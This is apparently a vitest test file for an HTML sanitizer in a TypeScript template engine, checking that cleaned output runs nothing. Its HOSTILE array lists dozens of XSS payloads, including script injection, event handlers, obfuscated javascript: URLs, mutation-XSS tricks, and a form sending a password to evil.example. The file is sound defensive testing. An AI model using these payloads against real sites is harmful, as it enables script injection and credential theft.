import { execFileSync } from 'node:child_process'
import { cpSync, mkdirSync, mkdtempSync, rmSync, symlinkSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { describe, expect, it } from 'vitest'
import { createTemplates } from '../engine/engine.ts'
import { HtmlRulesInvalid } from '../errors/errors.ts'
import { escapeValue } from '../html/html.ts'
import { markdownHtml, richHtml, sanitize, stripTags } from './sanitize.ts'

const clean = (html: string, rules?: Parameters<typeof sanitize>[1]) => String(sanitize(html, rules))

/** What runs code in one browser or another, where nobody cleans it. */
const HOSTILE = [
  '<script>steal()</script>',
  '<SCRIPT SRC=//evil.example></SCRIPT>',
  '<scr<script>ipt>steal()</scr</script>ipt>',
  '<img src=x onerror=steal()>',
  '<img/src="https://a.example/x"/onerror="steal()">',
  '<img src="javascript:steal()">',
  '<svg onload=steal()><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=steal()></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=steal()>">',
  '<iframe srcdoc="<script>steal()</script>"></iframe>',
  '<object data="data:text/html,<script>steal()</script>"></object>',
  '<embed src="javascript:steal()">',
  '<a href="javascript:steal()">x</a>',
  '<a href="JaVaScRiPt:steal()">x</a>',
  '<a href="java\tscript:steal()">x</a>',
  '<a href="java&#10;script:steal()">x</a>',
  '<a href="&#x6A;avascript:steal()">x</a>',
  '<a href=" \u0001javascript:steal()">x</a>',
  '<a href="javascript&colon;steal()">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:steal()">x</a>',
  '<a href="https://a.example" onclick="steal()" onfocus=steal() autofocus>x</a>',
  '<p style="background:url(javascript:steal())">x</p>',
  '<p style="position:fixed;inset:0">x</p>',
  '<style>@import "//evil.example"</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv="refresh" content="0;url=javascript:steal()">',
  '<base href="//evil.example/">',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<textarea><script>steal()</script>',
  '<title><script>steal()</script></title>',
  '<!--><script>steal()</script>-->',
  '<![CDATA[<script>steal()</script>]]>',
  '<?xml-stylesheet href="javascript:steal()"?>',
  '<template><script>steal()</script></template>',
  '<video><source onerror="steal()"></video>',
  '<details open ontoggle=steal()>x</details>',
  '<body onload=steal()>',
  '<table background="javascript:steal()"><td>x</td></table>',
  '<p id="config" name="config">x</p>',
  '<code class="language-js admin-button">x</code>',
  '<xmp><script>steal()</script></xmp>',
  '<plaintext><script>steal()</script>',
  '"><script>steal()</script>',
  '<img src="https://a.example/x" srcset="javascript:steal() 1x">',
]

describe('HTML of people', () => {
  it.each(HOSTILE)('runs nothing: %s', (html) => {
    for (const rules of ['rich', 'markdown'] as const) {
      const left = clean(html, rules)
      // What stands outside of tags is text; inside of them nothing is left that does anything.
      for (const [tag] of left.matchAll(/<[^>]*>/g))
        expect(tag, left).toMatch(
          /^<\/?(?:p|br|hr|a|img|code|table|tbody|tr|td|b)(?: (?:href|src|alt|title|rel|class|target)="[^"]*")*(?: \/)?>$/,
        )
      expect(left).not.toMatch(/<[^>]*(?:javascript|vbscript|data:|steal|evil|admin-button)[^>]*>/i)
      // Once clean, it stays as it is: nothing becomes a tag when it is read again.
      expect(clean(left, rules)).toBe(left)
    }
  })

  it('keeps what an editor makes', () => {
    const text =
      '<h2>Title</h2><p>One <strong>two</strong> <em>three</em><br />four</p><ul><li>a</li></ul><blockquote>q</blockquote><table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table><pre><code class="language-ts">let a = 1 &lt; 2</code></pre>'
    expect(clean(text)).toBe(text)
    expect(clean('<img src="https://a.example/x.png" alt="A cat" title="t" width="9000" />')).toBe(
      '<img src="https://a.example/x.png" alt="A cat" title="t" />',
    )
  })

  it('keeps what stands between tags that go, but for scripts and styles', () => {
    expect(clean('<div>One <span>two</span></div><script>three</script><style>four</style>')).toBe('One two')
  })

  it('gives links to others nothing of this page', () => {
    expect(clean('<a href="https://b.example/?a=1&b=2" target="_blank" rel="opener">b</a>')).toBe(
      '<a href="https://b.example/?a=1&amp;b=2" target="_blank" rel="nofollow noopener noreferrer">b</a>',
    )
    expect(clean('<a href="https://b.example" target="_top">b</a>')).not.toContain('target')
  })

  it.each(['/about', 'about', '#top', '?a=1', '../x'])('has relative addresses where that is said: %s', (address) => {
    expect(clean(`<a href="${address}">x</a><img src="${address}">`)).toBe(
      '<a rel="nofollow noopener noreferrer">x</a>',
    )
    expect(clean(`<a href="${address}">x</a>`, 'markdown')).toContain(`href="${address}"`)
    expect(clean(`<img src="${address}">`, 'markdown')).toBe(`<img src="${address}" />`)
  })

  it.each(['//evil.example', '\\\\evil.example', '/\\evil.example', '/\t/evil.example', ' //evil.example'])(
    'has no address of another host that looks relative: %j',
    (address) => {
      expect(clean(`<a href="${address}">x</a><img src="${address}">`, 'markdown')).not.toContain('evil')
    },
  )

  it('goes by schemes', () => {
    expect(clean('<a href="mailto:a@b.example">x</a>')).not.toContain('mailto')
    expect(clean('<a href="mailto:a@b.example">x</a>', markdownHtml)).toContain('href="mailto:a@b.example"')
    expect(clean('<a href="ftp://a.example">x</a>', markdownHtml)).not.toContain('ftp')
    expect(clean('<a href="tel:112">x</a>', { ...richHtml, schemes: ['tel'] })).toContain('tel:112')
  })

  it('is told by rules of one’s own, which cannot let in what runs', () => {
    expect(clean('<mark>a</mark><p>b</p>', { tags: ['mark'], attributes: {}, schemes: [], relative: false })).toBe(
      '<mark>a</mark>b',
    )
    const wrong: [Partial<typeof richHtml>, string][] = [
      [{ tags: ['p', 'script'], attributes: {} }, 'no tag "script"'],
      [{ tags: ['SVG'], attributes: {} }, 'no tag "SVG"'],
      [{ tags: ['p x'], attributes: {} }, 'no tag "p x"'],
      [{ attributes: { p: ['onclick'] } }, 'no attribute "onclick" of "p"'],
      [{ attributes: { p: ['STYLE'] } }, 'no attribute "STYLE" of "p"'],
      [{ attributes: { p: ['href'] } }, 'no attribute "href" of "p"'],
      [{ attributes: { '*': ['title'] } }, 'attributes of "*", which is none of the tags'],
      [{ schemes: ['JavaScript'] }, 'the scheme "JavaScript"'],
      [{ schemes: ['data'] }, 'the scheme "data"'],
    ]
    for (const [rules, said] of wrong) {
      expect(() => clean('', { ...richHtml, ...rules })).toThrow(HtmlRulesInvalid)
      expect(() => clean('', { ...richHtml, ...rules })).toThrow(said)
    }
    expect(() => clean('', 'toString' as never)).toThrow('Known: "rich", "markdown".')
  })

  it('is printed as it stands by templates', () => {
    const source = '<%= sanitize(it.body) %>|<%= stripTags(it.body) %>'
    expect(
      createTemplates({ folders: [] }).renderString(source, { body: '<p>a &amp; <script>b</script>&lt;i&gt;</p>' }),
    ).toBe('<p>a &amp; &lt;i&gt;</p>|a &amp; &lt;i&gt;')
  })

  it('is nothing where there is nothing', () => {
    expect([clean(''), String(sanitize(null)), stripTags(undefined)]).toEqual(['', '', ''])
  })
})

describe('the text of HTML', () => {
  it('is what it was, without tags', () => {
    expect(stripTags('<p>1 &lt; 2 &amp;&amp; &quot;a&quot; &copy; ä</p><!-- b -->')).toBe('1 < 2 && "a" © ä')
    expect(stripTags('&amp;lt;')).toBe('&lt;')
  })

  it.each(HOSTILE)('holds no tag once it is printed: %s', (html) => {
    for (const written of [html, escapeValue(html), escapeValue(escapeValue(html))])
      expect(escapeValue(stripTags(written))).not.toMatch(/[<>]/)
  })
})

it('says what to install, where the package is not there, and templates without it work', () => {
  const away = mkdtempSync(join(tmpdir(), 'tsango-sanitize-'))
  try {
    const own = new URL('../../', import.meta.url).pathname
    cpSync(join(own, 'src'), join(away, 'src'), { recursive: true })
    cpSync(join(own, 'package.json'), join(away, 'package.json'))
    mkdirSync(join(away, 'node_modules'))
    for (const name of ['@tsango', 'eta'])
      symlinkSync(join(own, 'node_modules', name), join(away, 'node_modules', name))
    const script = `const { createTemplates } = await import(${JSON.stringify(pathToFileURL(join(away, 'src/engine/engine.ts')).href)})
      const templates = createTemplates({ folders: [] })
      const said = [templates.renderString('<%= 1 %>')]
      try { templates.renderString('<%= sanitize("a") %>') } catch (error) { said.push(String(error.cause ?? error)) }
      console.log(JSON.stringify(said))`
    // Whoever starts the tests by pnpm has a path to all packages of the workspace among the variables.
    const env = { ...process.env, NODE_PATH: '' }
    const output = execFileSync(process.execPath, ['--input-type=module', '--eval', script], { cwd: away, env })
    expect(JSON.parse(String(output))).toEqual(['1', expect.stringContaining('Install it: npm install sanitize-html')])
  } finally {
    rmSync(away, { recursive: true })
  }
})
